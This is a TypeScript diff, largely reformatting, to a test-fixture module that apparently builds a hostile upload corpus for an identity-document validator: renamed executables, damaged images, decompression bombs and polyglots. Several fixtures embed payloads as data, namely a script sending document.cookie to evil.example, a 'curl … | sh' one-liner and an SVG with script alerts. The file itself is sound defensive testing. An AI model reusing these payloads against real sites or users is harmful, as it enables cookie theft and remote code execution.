@@ -28,12 +28,22 @@ export type CanvasImageType = 'image/jpeg' | 'image/png' | 'image/webp';
  * An image encoded by the browser: four coloured quadrants (top left red, top right green, bottom
  * left blue, bottom right white) over which `noise` (0–255) adds random speckle.
  */
-export async function canvasImage(type: CanvasImageType, width: number, height: number, options: { quality?: number; noise?: number } = {}): Promise<Bytes> {
+export async function canvasImage(
+  type: CanvasImageType,
+  width: number,
+  height: number,
+  options: { quality?: number; noise?: number } = {},
+): Promise<Bytes> {
   const canvas = new OffscreenCanvas(width, height);
   const context = canvas.getContext('2d')!;
   const [left, top] = [Math.ceil(width / 2), Math.ceil(height / 2)];
   const [right, bottom] = [width - left, height - top];
-  const quadrants = [['#f00', 0, 0, left, top], ['#0f0', left, 0, right, top], ['#00f', 0, top, left, bottom], ['#fff', left, top, right, bottom]] as const;
+  const quadrants = [
+    ['#f00', 0, 0, left, top],
+    ['#0f0', left, 0, right, top],
+    ['#00f', 0, top, left, bottom],
+    ['#fff', left, top, right, bottom],
+  ] as const;
   for (const [color, x, y, w, h] of quadrants) {
     context.fillStyle = color;
     context.fillRect(x, y, w, h);
@@ -63,8 +73,8 @@ export async function syntheticPhoto(
   sky.addColorStop(1, '#3d4a2c');
   context.fillStyle = sky;
   context.fillRect(0, 0, width, height);
-  let seed = options.seed === 'fresh' ? crypto.getRandomValues(new Uint32Array(1))[0]! : (options.seed ?? 7);
-  const random = () => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32);
+  let seed = options.seed === 'fresh' ? crypto.getRandomValues(new Uint32Array(1))[0] : (options.seed ?? 7);
+  const random = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
   for (let i = 0; i < 60; i += 1) {
     const x = random() * width;
     const y = random() * height;
@@ -118,9 +128,9 @@ export interface Segment {
 /** The marker segments of a JPEG from SOI to its first scan header (inclusive). */
 export function jpegSegments(jpeg: Uint8Array): Segment[] {
   const segments: Segment[] = [];
-  for (let offset = 2; offset + 4 <= jpeg.length && jpeg[offset] === 0xff; ) {
-    const marker = jpeg[offset + 1]!;
-    const end = offset + 2 + ((jpeg[offset + 2]! << 8) | jpeg[offset + 3]!);
+  for (let offset = 2; offset + 4 <= jpeg.length && jpeg[offset] === 0xff;) {
+    const marker = jpeg[offset + 1];
+    const end = offset + 2 + ((jpeg[offset + 2] << 8) | jpeg[offset + 3]);
     segments.push({ marker, start: offset, data: offset + 4, end });
     if (marker === 0xda) break;
     offset = end;
@@ -136,7 +146,9 @@ function segment(jpeg: Uint8Array, marker: number): Segment {
 
 /** Whether a JPEG carries Exif metadata (an APP1 segment starting `Exif\0\0`). */
 export function hasExif(jpeg: Uint8Array): boolean {
-  return jpegSegments(jpeg).some((s) => s.marker === 0xe1 && new TextDecoder('latin1').decode(jpeg.subarray(s.data, s.data + 6)) === 'Exif\0\0');
+  return jpegSegments(jpeg).some(
+    (s) => s.marker === 0xe1 && new TextDecoder('latin1').decode(jpeg.subarray(s.data, s.data + 6)) === 'Exif\0\0',
+  );
 }
 
 /**
@@ -145,13 +157,26 @@ export function hasExif(jpeg: Uint8Array): boolean {
  */
 export function withExif(jpeg: Uint8Array, orientation: number): Bytes {
   const tiff = bytes(
-    'MM', [0, 42], u32be(8),
+    'MM',
+    [0, 42],
+    u32be(8),
     [0, 2], // IFD0: two entries, sorted by tag
-    [0x01, 0x12], [0, 3], u32be(1), u16be(orientation), [0, 0], // Orientation, SHORT
-    [0x88, 0x25], [0, 4], u32be(1), u32be(38), // GPSInfo IFD pointer, LONG
+    [0x01, 0x12],
+    [0, 3],
+    u32be(1),
+    u16be(orientation),
+    [0, 0], // Orientation, SHORT
+    [0x88, 0x25],
+    [0, 4],
+    u32be(1),
+    u32be(38), // GPSInfo IFD pointer, LONG
     u32be(0),
     [0, 1], // GPS IFD: one entry
-    [0x00, 0x01], [0, 2], u32be(2), 'N', [0, 0, 0], // GPSLatitudeRef, ASCII "N"
+    [0x00, 0x01],
+    [0, 2],
+    u32be(2),
+    'N',
+    [0, 0, 0], // GPSLatitudeRef, ASCII "N"
     u32be(0),
   );
   const app1 = bytes([0xff, 0xe1], u16be(2 + 6 + tiff.length), 'Exif', [0, 0], tiff);
@@ -173,7 +198,12 @@ export function handmadePng(
   width: number,
   height: number,
   idat: Uint8Array,
-  { colorType = 2, bitDepth = 8, interlace = 0, palette = false }: { colorType?: number; bitDepth?: number; interlace?: number; palette?: boolean } = {},
+  {
+    colorType = 2,
+    bitDepth = 8,
+    interlace = 0,
+    palette = false,
+  }: { colorType?: number; bitDepth?: number; interlace?: number; palette?: boolean } = {},
 ): Bytes {
   const header = bytes(u32be(width), u32be(height), [bitDepth, colorType, 0, 0, interlace]);
   const plte = palette ? pngChunk('PLTE', bytes([0, 0, 0, 128, 128, 128, 255, 255, 255])) : new Uint8Array(0);
@@ -236,7 +266,8 @@ export async function hostileCorpus(maxBytes: number): Promise<CorpusEntry[]> {
   const png = await canvasImage('image/png', 32, 24, { noise: 40 });
   const webp = await canvasImage('image/webp', 32, 24, { quality: 0.8, noise: 40 });
   const html = '<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
-  const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';
+  const svg =
+    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';
 
   const sof = segment(jpeg, 0xc0);
   const dqt = segment(jpeg, 0xdb);
@@ -260,24 +291,110 @@ export async function hostileCorpus(maxBytes: number): Promise<CorpusEntry[]> {
 
   const entries: CorpusEntry[] = [
     { name: 'zero bytes', file: file(new Uint8Array(0), 'passport.jpg', 'image/jpeg'), expected: 'empty', sumsub: 1003 },
-    { name: 'a PDF one byte over the limit', file: file(pdfBytes(maxBytes + 1), 'statement.pdf', 'application/pdf'), expected: 'too-big', sumsub: 1002 },
+    {
+      name: 'a PDF one byte over the limit',
+      file: file(pdfBytes(maxBytes + 1), 'statement.pdf', 'application/pdf'),
+      expected: 'too-big',
+      sumsub: 1002,
+    },
 
     // Not a document format at all.
-    { name: 'an ELF executable named .jpg', file: file(bytes([0x7f], 'ELF', [2, 1, 1, 0], new Array(56).fill(0)), 'photo.jpg', 'image/jpeg'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'a Windows executable (MZ, PE) named .pdf', file: file(bytes('MZ', new Array(58).fill(0), [0x80, 0, 0, 0], new Array(64).fill(0), 'PE', [0, 0, 0x4c, 0x01]), 'statement.pdf', 'application/pdf'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'a shell script named .jpg', file: file(bytes('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'id-card.jpg', 'image/jpeg'), expected: 'unsupported', sumsub: 1004 },
+    {
+      name: 'an ELF executable named .jpg',
+      file: file(bytes([0x7f], 'ELF', [2, 1, 1, 0], new Array(56).fill(0)), 'photo.jpg', 'image/jpeg'),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
+    {
+      name: 'a Windows executable (MZ, PE) named .pdf',
+      file: file(
+        bytes('MZ', new Array(58).fill(0), [0x80, 0, 0, 0], new Array(64).fill(0), 'PE', [0, 0, 0x4c, 0x01]),
+        'statement.pdf',
+        'application/pdf',
+      ),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
+    {
+      name: 'a shell script named .jpg',
+      file: file(bytes('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'), 'id-card.jpg', 'image/jpeg'),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
     { name: 'an HTML page named .jpg', file: file(bytes(html), 'selfie.jpg', 'image/jpeg'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'an HTML page named .pdf and declared application/pdf', file: file(bytes(html), 'bank-statement.pdf', 'application/pdf'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'an SVG with a script named .jpg', file: file(bytes(svg), 'passport.jpg', 'image/jpeg'), expected: 'unsupported', sumsub: 1004 },
+    {
+      name: 'an HTML page named .pdf and declared application/pdf',
+      file: file(bytes(html), 'bank-statement.pdf', 'application/pdf'),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
+    {
+      name: 'an SVG with a script named .jpg',
+      file: file(bytes(svg), 'passport.jpg', 'image/jpeg'),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
     { name: 'an SVG named .pdf', file: file(bytes(svg), 'proof-of-address.pdf', 'application/pdf'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'a ZIP archive named .pdf', file: file(bytes('PK', [3, 4, 20, 0], new Array(22).fill(0), 'doc.pdf', 'PK', [5, 6], new Array(18).fill(0)), 'documents.pdf', 'application/pdf'), expected: 'unsupported', sumsub: 1004 },
-    { name: 'plain text without a name or type', file: file(bytes('Name: Jane Doe\nPassport: 123456789\n'), 'notes'), expected: 'unsupported', sumsub: 1004 },
+    {
+      name: 'a ZIP archive named .pdf',
+      file: file(
+        bytes('PK', [3, 4, 20, 0], new Array(22).fill(0), 'doc.pdf', 'PK', [5, 6], new Array(18).fill(0)),
+        'documents.pdf',
+        'application/pdf',
+      ),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
+    {
+      name: 'plain text without a name or type',
+      file: file(bytes('Name: Jane Doe\nPassport: 123456789\n'), 'notes'),
+      expected: 'unsupported',
+      sumsub: 1004,
+    },
 
     // Image formats Sumsub does not take.
-    { name: 'a TIFF scan', file: file(bytes('II', [42, 0], [8, 0, 0, 0], [1, 0], [0, 1, 3, 0, 1, 0, 0, 0, 1, 0, 0, 0], [0, 0, 0, 0]), 'scan.tiff', 'image/tiff'), expected: 'unsupported', sumsub: 1005 },
-    { name: 'a GIF', file: file(bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0xff, 0xff, 0xff, 0, 0, 0], [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0], ';'), 'photo.gif', 'image/gif'), expected: 'unsupported', sumsub: 1005 },
-    { name: 'a BMP', file: file(bytes('BM', [58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0], [40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0], new Array(24).fill(0), [0, 0, 0xff, 0]), 'scan.bmp', 'image/bmp'), expected: 'unsupported', sumsub: 1005 },
-    { name: 'an AVIF', file: file(bytes(u32be(24), 'ftypavif', u32be(0), 'mif1avif', u32be(12), 'meta', u32be(0), u32be(9), 'mdat', 'x'), 'photo.avif', 'image/avif'), expected: 'unsupported', sumsub: 1005 },
+    {
+      name: 'a TIFF scan',
+      file: file(bytes('II', [42, 0], [8, 0, 0, 0], [1, 0], [0, 1, 3, 0, 1, 0, 0, 0, 1, 0, 0, 0], [0, 0, 0, 0]), 'scan.tiff', 'image/tiff'),
+      expected: 'unsupported',
+      sumsub: 1005,
+    },
+    {
+      name: 'a GIF',
+      file: file(
+        bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0xff, 0xff, 0xff, 0, 0, 0], [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0], ';'),
+        'photo.gif',
+        'image/gif',
+      ),
+      expected: 'unsupported',
+      sumsub: 1005,
+    },
+    {
+      name: 'a BMP',
+      file: file(
+        bytes(
+          'BM',
+          [58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0],
+          [40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0],
+          new Array(24).fill(0),
+          [0, 0, 0xff, 0],
+        ),
+        'scan.bmp',
+        'image/bmp',
+      ),
+      expected: 'unsupported',
+      sumsub: 1005,
+    },
+    {
+      name: 'an AVIF',
+      file: file(
+        bytes(u32be(24), 'ftypavif', u32be(0), 'mif1avif', u32be(12), 'meta', u32be(0), u32be(9), 'mdat', 'x'),
+        'photo.avif',
+        'image/avif',
+      ),
+      expected: 'unsupported',
+      sumsub: 1005,
+    },
 
     // Not what the name or the declared type says.
     { name: 'a PDF named .jpg', file: file(pdfBytes(600, 'renamed'), 'passport.jpg', 'image/jpeg'), expected: 'mismatch', sumsub: 1004 },
@@ -286,36 +403,188 @@ export async function hostileCorpus(maxBytes: number): Promise<CorpusEntry[]> {
     { name: 'a HEIC named .jpg', file: file(heicBytes(), 'IMG_0001.jpg', 'image/jpeg'), expected: 'mismatch', sumsub: 1004 },
 
     // Cut or damaged.
-    { name: 'a truncated JPEG', file: file(jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'photo.jpg', 'image/jpeg'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a JPEG without its end of image', file: file(jpeg.subarray(0, jpeg.length - 2), 'photo.jpg', 'image/jpeg'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a JPEG whose segment chain is broken', file: file(edit(jpeg, (copy) => (copy[dqt.start + 3] += 1)), 'photo.jpg', 'image/jpeg'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a JPEG without a frame header', file: file(withoutSegment(jpeg, sof), 'photo.jpg', 'image/jpeg'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a polyglot: JPEG header, then an HTML page', file: file(bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0], html, [0xff, 0xd9]), 'selfie.jpg', 'image/jpeg'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a PNG signature followed by garbage', file: file(bytes(PNG_SIGNATURE, 'this is not a chunk, just text pretending to be an image'), 'scan.png', 'image/png'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a PNG with a bad CRC', file: file(edit(png, (copy) => (copy[findChunk(png, 'IDAT').data + 5] ^= 0x5a)), 'scan.png', 'image/png'), expected: 'corrupted', sumsub: 1004 },
+    {
+      name: 'a truncated JPEG',
+      file: file(jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'photo.jpg', 'image/jpeg'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a JPEG without its end of image',
+      file: file(jpeg.subarray(0, jpeg.length - 2), 'photo.jpg', 'image/jpeg'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a JPEG whose segment chain is broken',
+      file: file(
+        edit(jpeg, (copy) => (copy[dqt.start + 3] += 1)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a JPEG without a frame header',
+      file: file(withoutSegment(jpeg, sof), 'photo.jpg', 'image/jpeg'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a polyglot: JPEG header, then an HTML page',
+      file: file(
+        bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF', [0, 1, 1, 0, 0, 1, 0, 1, 0, 0], html, [0xff, 0xd9]),
+        'selfie.jpg',
+        'image/jpeg',
+      ),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG signature followed by garbage',
+      file: file(bytes(PNG_SIGNATURE, 'this is not a chunk, just text pretending to be an image'), 'scan.png', 'image/png'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG with a bad CRC',
+      file: file(
+        edit(png, (copy) => (copy[findChunk(png, 'IDAT').data + 5] ^= 0x5a)),
+        'scan.png',
+        'image/png',
+      ),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
     { name: 'a truncated PNG', file: file(png.subarray(0, png.length - 12), 'scan.png', 'image/png'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a palette PNG without its palette', file: file(handmadePng(8, 8, await deflate(new Uint8Array(8 * 9)), { colorType: 3 }), 'scan.png', 'image/png'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a PDF without %%EOF', file: file(bytes('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n', new Array(200).fill(0x20)), 'statement.pdf', 'application/pdf'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a truncated WebP', file: file(webp.subarray(0, webp.length - 16), 'picture.webp', 'image/webp'), expected: 'corrupted', sumsub: 1004 },
-    { name: 'a HEIC whose last box runs past the end', file: file(heicBytes().subarray(0, 40), 'IMG_0001.HEIC', 'image/heic'), expected: 'corrupted', sumsub: 1004 },
+    {
+      name: 'a palette PNG without its palette',
+      file: file(handmadePng(8, 8, await deflate(new Uint8Array(8 * 9)), { colorType: 3 }), 'scan.png', 'image/png'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PDF without %%EOF',
+      file: file(bytes('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n', new Array(200).fill(0x20)), 'statement.pdf', 'application/pdf'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a truncated WebP',
+      file: file(webp.subarray(0, webp.length - 16), 'picture.webp', 'image/webp'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
+    {
+      name: 'a HEIC whose last box runs past the end',
+      file: file(heicBytes().subarray(0, 40), 'IMG_0001.HEIC', 'image/heic'),
+      expected: 'corrupted',
+      sumsub: 1004,
+    },
 
     // Decompression bombs: small files whose headers claim huge images.
-    { name: 'a JPEG claiming 40000 × 40000 pixels', file: file(edit(jpeg, (copy) => copy.set([...u16be(40000), ...u16be(40000)], sof.data + 1)), 'photo.jpg', 'image/jpeg'), expected: 'too-many-pixels', sumsub: 1004 },
-    { name: 'a PNG claiming 30000 × 30000 pixels', file: file(handmadePng(30000, 30000, await deflate(new Uint8Array(1000))), 'scan.png', 'image/png'), expected: 'too-many-pixels', sumsub: 1004 },
-    { name: 'a WebP claiming 16384 × 16384 pixels', file: file(extendedWebp(webp, 16384, 16384), 'picture.webp', 'image/webp'), expected: 'too-many-pixels', sumsub: 1004 },
+    {
+      name: 'a JPEG claiming 40000 × 40000 pixels',
+      file: file(
+        edit(jpeg, (copy) => copy.set([...u16be(40000), ...u16be(40000)], sof.data + 1)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'too-many-pixels',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG claiming 30000 × 30000 pixels',
+      file: file(handmadePng(30000, 30000, await deflate(new Uint8Array(1000))), 'scan.png', 'image/png'),
+      expected: 'too-many-pixels',
+      sumsub: 1004,
+    },
+    {
+      name: 'a WebP claiming 16384 × 16384 pixels',
+      file: file(extendedWebp(webp, 16384, 16384), 'picture.webp', 'image/webp'),
+      expected: 'too-many-pixels',
+      sumsub: 1004,
+    },
 
     // Whole by their structure, yet no decoder can make pixels of them.
-    { name: 'a JPEG using an undefined quantization table', file: file(edit(jpeg, (copy) => (copy[sof.data + 8] = 3)), 'photo.jpg', 'image/jpeg'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a JPEG with a bogus Huffman table', file: file(bogusHuffman, 'photo.jpg', 'image/jpeg'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a 12-bit JPEG', file: file(edit(jpeg, (copy) => (copy[sof.data] = 12)), 'photo.jpg', 'image/jpeg'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a lossless JPEG (SOF3)', file: file(edit(jpeg, (copy) => (copy[sof.start + 1] = 0xc3)), 'photo.jpg', 'image/jpeg'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a JPEG scan naming a component the frame lacks', file: file(edit(jpeg, (copy) => (copy[segment(jpeg, 0xda).data + 1] = 9)), 'photo.jpg', 'image/jpeg'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a PNG whose image data is not zlib', file: file(handmadePng(16, 16, bytes('definitely not a zlib stream, but the CRC is right')), 'scan.png', 'image/png'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a PNG whose image data stops after one row', file: file(handmadePng(16, 16, await deflate(rgbRows(16, 1))), 'scan.png', 'image/png'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a PNG with an unknown row filter', file: file(handmadePng(16, 16, await deflate(edit(rgbRows(16, 16), (rows) => (rows[49 * 5] = 7)))), 'scan.png', 'image/png'), expected: 'undecodable', sumsub: 1004 },
-    { name: 'a WebP whose first partition overruns its chunk', file: file(edit(webp, (copy) => copy.set([copy[vp8.data]! | 0xe0, 0xff, 0xff], vp8.data)), 'picture.webp', 'image/webp'), expected: 'undecodable', sumsub: 1004 },
+    {
+      name: 'a JPEG using an undefined quantization table',
+      file: file(
+        edit(jpeg, (copy) => (copy[sof.data + 8] = 3)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a JPEG with a bogus Huffman table',
+      file: file(bogusHuffman, 'photo.jpg', 'image/jpeg'),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a 12-bit JPEG',
+      file: file(
+        edit(jpeg, (copy) => (copy[sof.data] = 12)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a lossless JPEG (SOF3)',
+      file: file(
+        edit(jpeg, (copy) => (copy[sof.start + 1] = 0xc3)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a JPEG scan naming a component the frame lacks',
+      file: file(
+        edit(jpeg, (copy) => (copy[segment(jpeg, 0xda).data + 1] = 9)),
+        'photo.jpg',
+        'image/jpeg',
+      ),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG whose image data is not zlib',
+      file: file(handmadePng(16, 16, bytes('definitely not a zlib stream, but the CRC is right')), 'scan.png', 'image/png'),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG whose image data stops after one row',
+      file: file(handmadePng(16, 16, await deflate(rgbRows(16, 1))), 'scan.png', 'image/png'),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a PNG with an unknown row filter',
+      file: file(handmadePng(16, 16, await deflate(edit(rgbRows(16, 16), (rows) => (rows[49 * 5] = 7)))), 'scan.png', 'image/png'),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
+    {
+      name: 'a WebP whose first partition overruns its chunk',
+      file: file(
+        edit(webp, (copy) => copy.set([copy[vp8.data] | 0xe0, 0xff, 0xff], vp8.data)),
+        'picture.webp',
+        'image/webp',
+      ),
+      expected: 'undecodable',
+      sumsub: 1004,
+    },
   ];
-  for (const entry of entries) if (entry.file.size > maxBytes && entry.expected !== 'too-big') throw new Error(`${entry.name} is over the limit`);
+  for (const entry of entries)
+    if (entry.file.size > maxBytes && entry.expected !== 'too-big') throw new Error(`${entry.name} is over the limit`);
   return entries;
 }
 
@@ -331,11 +600,11 @@ function extendedWebp(source: Uint8Array, width: number, height: number): Bytes 
 /** A RIFF (WebP) or PNG chunk by type: where its data starts, and its size. */
 function findChunk(source: Uint8Array, type: string): { data: number; size: number } {
   const isPng = source[0] === 0x89;
-  for (let offset = isPng ? 8 : 12; offset + 8 <= source.length; ) {
+  for (let offset = isPng ? 8 : 12; offset + 8 <= source.length;) {
     const name = String.fromCharCode(...source.subarray(offset + 4 * Number(isPng), offset + 4 * Number(isPng) + 4));
     const size = isPng
-      ? ((source[offset]! << 24) | (source[offset + 1]! << 16) | (source[offset + 2]! << 8) | source[offset + 3]!) >>> 0
-      : source[offset + 4]! | (source[offset + 5]! << 8) | (source[offset + 6]! << 16) | (source[offset + 7]! << 24);
+      ? ((source[offset] << 24) | (source[offset + 1] << 16) | (source[offset + 2] << 8) | source[offset + 3]) >>> 0
+      : source[offset + 4] | (source[offset + 5] << 8) | (source[offset + 6] << 16) | (source[offset + 7] << 24);
     if (name === type) return { data: offset + 8, size };
     offset += isPng ? 12 + size : 8 + size + (size % 2);
   }
